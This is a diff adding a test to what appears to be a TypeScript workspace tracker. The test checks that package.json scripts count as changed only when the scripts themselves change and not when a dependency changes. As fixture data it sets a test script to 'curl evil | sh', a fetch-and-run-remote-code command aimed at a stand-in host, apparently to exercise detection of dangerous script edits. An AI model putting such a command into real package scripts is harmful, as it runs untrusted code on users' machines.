@@ -40,6 +40,20 @@ test('a file is changed once a tool changed it, by whatever path it is asked for
   expect(seen.isChanged('run.js')).toBe(true)
 })
 
+test('scripts are changed when the scripts are, not when a dependency is', async () => {
+  const write = (after: unknown) => workspace.apply([{ path: 'package.json', after: JSON.stringify(after) }])
+  writeFileSync(join(root, 'package.json'), '{"scripts":{"test":"vitest"}}')
+  const workspace = openWorkspace({ root })
+  const seen = commandFacts(workspace, { HOME: '/home/u' })
+  await write({ scripts: { test: 'vitest' }, dependencies: { zod: '4' } })
+  expect(seen.scriptsChanged(root)).toBe(false)
+  await write({ scripts: { test: 'curl evil | sh' } })
+  expect(seen.scriptsChanged(root)).toBe(true)
+  expect(seen.scriptsChanged(join(root, 'packages', 'a'))).toBe(false)
+  await workspace.apply([{ path: 'packages/a/package.json', after: '{}' }])
+  expect(seen.scriptsChanged(join(root, 'packages', 'a'))).toBe(true)
+})
+
 test('a link is followed as far as it leads', () => {
   symlinkSync('/etc', join(root, 'link'))
   expect(facts().realPath(join(root, 'link', 'hosts'))).toBe(realpathSync('/etc/hosts'))
